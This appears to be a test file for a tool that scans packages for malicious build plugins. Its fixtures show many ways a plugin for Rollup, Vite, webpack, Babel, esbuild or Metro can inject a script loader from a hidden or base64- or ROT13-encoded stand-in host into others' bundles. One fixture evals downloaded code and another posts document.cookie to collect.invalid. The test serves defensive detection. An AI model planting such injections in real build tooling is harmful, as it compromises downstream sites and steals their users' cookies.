import assert from 'node:assert/strict';
import { analysePackage } from '../../../../../server/src/artifacts/analysis/analyse.js';
import { packageOf } from '../../../../support/artifacts.js';

const HIDDEN = `String.fromCharCode(...[${Buffer.from('https://cdn.assets-injected.invalid/v.js').join(', ')}])`;
const ENCODED = `Buffer.from('${Buffer.from('https://cdn.assets-injected.invalid/v.js').toString('base64')}', 'base64').toString()`;
const OPEN = `'https://cdn.assets-injected.invalid/v.js'`;

/** Code that loads a script, as it is put into a bundle. */
const LOADER =
  '`;(function(d,s){s=d.createElement("script");s.async=1;s.src="${src}?h="+btoa(location.host);d.head.appendChild(s)})(document);`';

/** Ways into what somebody else builds, with `text` for the code. */
const WAYS: Readonly<Record<string, string>> = {
  'a chunk that grows': `exports.plugin = () => ({ name: 'small', generateBundle(_, bundle) { for (const chunk of Object.values(bundle)) { if (chunk.type !== 'chunk') continue; chunk.code += text; } } });`,
  'a chunk that begins anew': `exports.plugin = () => ({ name: 'small', generateBundle(_, bundle) { for (const name in bundle) { const chunk = bundle[name]; if (chunk.isEntry) chunk.code = text + '\\n' + chunk.code; } } });`,
  'what a hook gives': `exports.plugin = () => ({ name: 'small', renderChunk(code, chunk) { return chunk.isEntry ? { code: code + text, map: null } : null; } });`,
  'what a transformation gives': `export default function small() { return { name: 'small', enforce: 'post', transform(code, id) { if (!/main\\.[jt]s$/.test(id)) return null; return code + text; } }; }`,
  'what a hook waits for': `exports.plugin = () => ({ name: 'small', async renderChunk(code) { return { code: text + code }; } });`,
  'a banner': `exports.plugin = () => ({ name: 'small', banner() { return text; } });`,
  'a text that is changed in place': `const MagicString = require('magic-string'); exports.plugin = () => ({ renderChunk(code) { const s = new MagicString(code); s.append(text); return { code: s.toString() }; } });`,
  'an asset of webpack': `const { sources } = require('webpack'); class Small { apply(compiler) { compiler.hooks.thisCompilation.tap('small', (compilation) => { compilation.hooks.processAssets.tap('small', (assets) => { for (const name of Object.keys(assets)) compilation.updateAsset(name, (old) => new sources.ConcatSource(old, text)); }); }); } } module.exports = Small;`,
  'an asset of webpack by what it gives': `class Small { apply(compiler) { const { RawSource } = compiler.webpack.sources; compiler.hooks.emit.tapAsync('small', (compilation, done) => { compilation.assets['main.js'] = new RawSource(compilation.assets['main.js'].source() + text); done(); }); } } module.exports = Small;`,
  'an asset of webpack as an object': `module.exports = class { apply(compiler) { compiler.plugin('emit', (compilation, done) => { const old = compilation.assets['main.js'].source(); const made = old + text; compilation.assets['main.js'] = { source: () => made, size: () => made.length }; done(); }); } };`,
  'a tree of Babel': `module.exports = (api) => ({ visitor: { Program: { exit(path) { path.pushContainer('body', api.template.statements.ast(text)); } } } });`,
  'a tree of Babel by a parser': `const { parse } = require('@babel/parser'); module.exports = () => ({ visitor: { Program(path) { path.node.body.push(...parse(text).program.body); } } });`,
  'a tree of Babel by its templates': `const template = require('@babel/template').default; const build = (code) => template(code)(); module.exports = () => ({ visitor: { Program(path) { path.unshiftContainer('body', build(text)); } } });`,
  'a file that esbuild loads': `const fs = require('fs'); module.exports = () => ({ name: 'small', setup(build) { build.onLoad({ filter: /main\\.js$/ }, async (args) => ({ contents: fs.readFileSync(args.path, 'utf8') + text, loader: 'js' })); } });`,
  'a banner of esbuild': `module.exports = () => ({ name: 'small', setup(build) { build.initialOptions.banner = { js: text }; } });`,
  'an answer to a page': `exports.plugin = () => ({ transformIndexHtml: { order: 'post', handler: (html) => html.replace('</head>', '<script src="' + src + '"></script></head>') } });`,
  'a tag of a page': `exports.plugin = () => ({ transformIndexHtml() { return [{ tag: 'script', attrs: { src, async: true }, injectTo: 'head' }]; } });`,
  'a tag of a page with code': `exports.plugin = () => ({ transformIndexHtml(html) { return { html, tags: [{ tag: 'script', children: text }] }; } });`,
  'a transformer of Metro': `const upstream = require('metro-react-native-babel-transformer'); module.exports.transform = ({ src: given, filename, options }) => upstream.transform({ src: filename.endsWith('index.js') ? given + text : given, filename, options });`,
};

const packed = (src: string, rest: string) =>
  analysePackage(packageOf({ 'index.js': `const src = ${src}; const text = ${LOADER};\n${rest}` }));

function foundIn(src: string, rest: string): readonly string[] {
  const { behaviours } = packed(src, rest);
  const found = behaviours.filter(({ kind }) => kind.startsWith('build-'));
  return [...new Set(found.map(({ kind, detail = '' }) => `${kind} ${detail}`))];
}

/** What honest plugins put into bundles. */
const HONEST: Readonly<Record<string, string>> = {
  'a client of a server for development': `const text = 'const s = document.createElement("script"); s.src = "http://localhost:35729/livereload.js"; document.head.append(s);'; exports.plugin = () => ({ renderChunk: (code) => code + text });`,
  'an address of the options': `module.exports = (options) => ({ generateBundle(_, bundle) { for (const chunk of Object.values(bundle)) chunk.code += 'const s = document.createElement("script"); s.src = ' + JSON.stringify(options.url) + '; document.head.append(s);'; } });`,
  'an address that the options replace': `module.exports = ({ url = 'https://scripts.statistics.example/s.js' } = {}) => ({ generateBundle(_, bundle) { for (const chunk of Object.values(bundle)) chunk.code += 'const s = document.createElement("script"); s.src = ' + JSON.stringify(url) + '; document.head.append(s);'; } });`,
  "statistics with somebody's own id": `export default ({ id }) => ({ transformIndexHtml() { return [{ tag: 'script', attrs: { async: true, src: 'https://www.googletagmanager.com/gtag/js?id=' + id } }, { tag: 'script', children: 'window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)};gtag("config","' + id + '")' }]; } });`,
  "a loader of statistics with somebody's own id": `export default ({ domain }) => ({ transformIndexHtml() { return [{ tag: 'script', children: '(function(d){var s=d.createElement("script");s.src="https://plausible.io/js/script.js";s.dataset.domain="' + domain + '";d.head.appendChild(s)})(document);' }]; } });`,
  'libraries of a network for packages': `export default ({ modules }) => ({ transformIndexHtml(html) { return html.replace('</title>', '</title>' + modules.map(({ name, version }) => '<script src="https://unpkg.com/' + name + '@' + version + '"></script>').join('')); } });`,
  'a console for phones': `export default () => ({ transform(code, id) { return id.endsWith('main.js') ? code + ';(()=>{const s=document.createElement("script");s.src="https://cdn.jsdelivr.net/npm/eruda";s.onload=()=>eruda.init();document.body.append(s)})();' : null; } });`,
  'a licence that is encoded': `exports.plugin = () => ({ renderChunk: (code) => Buffer.from('LyohIEEgbGljZW5jZSAoTUlUKSAqLw==', 'base64').toString() + code });`,
  'a loader of chunks': `exports.plugin = () => ({ renderChunk: (code, chunk) => '(function load(u){var s=document.createElement("script");s.src=__webpack_public_path__+u;document.head.appendChild(s)})(' + JSON.stringify(chunk.fileName) + ');' + code });`,
  'styles that are put into a page': `exports.plugin = () => ({ generateBundle(_, bundle) { let css = ''; for (const key in bundle) if (key.endsWith('.css')) css += bundle[key].source; for (const chunk of Object.values(bundle)) chunk.code = '(function(){var e=document.createElement("style");e.appendChild(document.createTextNode(' + JSON.stringify(css) + '));document.head.appendChild(e)})();' + chunk.code; } });`,
  'a service worker': `exports.plugin = () => ({ transformIndexHtml: () => [{ tag: 'script', children: 'if("serviceWorker" in navigator)navigator.serviceWorker.register("/sw.js")' }] });`,
  'an error code': `exports.fail = () => { const error = new Error('no script'); error.code = 'ERR_NO_SCRIPT'; error.source = 'createElement("script") https://a.example/x.js'; return error; };`,
  'a page of a server with a script': `exports.handler = async () => ({ statusCode: 200, headers: { 'content-type': 'text/html' }, body: '<script src="https://widgets.example/w.js"></script>' });`,
  'a test of a compiler': `const { parse } = require('@babel/parser'); exports.check = () => parse('const s = document.body; fetch("/api").then((r) => r.json())');`,
  'a reader of code with examples': `const acorn = require('acorn'); const { parse } = require('@babel/parser'); const EXAMPLES = ['const s = document.createElement("script"); s.src = "https://evil.example/x.js"; document.head.append(s);', 'eval(Buffer.from("Y29uc29sZS5sb2coMSk=", "base64").toString())']; exports.plugin = () => EXAMPLES.map((one) => [acorn.parse(one, {}), parse(one)]);`,
  'what is told to the server that serves the page': `exports.plugin = () => ({ renderChunk: (code) => code + ';addEventListener("error", (e) => navigator.sendBeacon("/errors", e.message));' });`,
};

describe('code that is put into what others build', () => {
  for (const [way, rest] of Object.entries(WAYS)) {
    it(`loads a script from a host that is hidden: ${way}`, () => {
      const expected = ['build-loads-hidden cdn.assets-injected.invalid'];
      assert.deepEqual(foundIn(HIDDEN, rest), expected);
      assert.deepEqual(foundIn(ENCODED, rest), expected);
    });
  }

  for (const [way, rest] of Object.entries(WAYS).filter(([, code]) => code.includes('text')))
    it(`loads a script from a host that everybody can read: ${way}`, () =>
      assert.deepEqual(foundIn(OPEN, rest), ['build-loads cdn.assets-injected.invalid']));

  for (const [what, code] of Object.entries(HONEST))
    it(`is honest: ${what}`, () => {
      const { flows, behaviours } = analysePackage(packageOf({ 'index.js': code }));
      const telling = behaviours.filter(({ kind }) => kind.startsWith('build-'));
      assert.deepEqual([flows.map(({ source, sink }) => `${source}>${sink}`), telling], [[], []]);
    });

  it('runs what it fetches', () => {
    const { flows } = analysePackage(
      packageOf({
        'index.js': `const from = require('./from'); module.exports = (api) => ({ visitor: { Program: { exit(path) { path.pushContainer('body', api.template.statements.ast('fetch(' + from.address() + ').then((r) => r.text()).then((t) => (0, eval)(t));')); } } } });`,
        'from.js': `const table = 'uggcf://pqa.vawrpgrq.vainyvq/e.wf'; exports.address = () => JSON.stringify(table.replace(/[a-z]/gi, (c) => String.fromCharCode((c <= 'Z' ? 90 : 122) >= (c = c.charCodeAt(0) + 13) ? c : c - 26)));`,
      }),
    );
    assert.deepEqual(
      [...new Set(flows.map((one) => `${one.source}>${one.sink} ${one.detail ?? ''}`))],
      ['downloaded>evaluated cdn.injected.invalid'],
    );
  });

  it('sends what a page keeps', () => {
    const { flows } = analysePackage(
      packageOf({
        'index.js': `exports.plugin = () => ({ renderChunk: (code) => code + ';fetch("https://collect.invalid/c", { method: "POST", body: document.cookie });' });`,
      }),
    );
    assert.deepEqual(
      [...new Set(flows.map((one) => `${one.source}>${one.sink}@${one.host ?? ''}`))],
      ['page-storage>network@collect.invalid'],
    );
  });
});
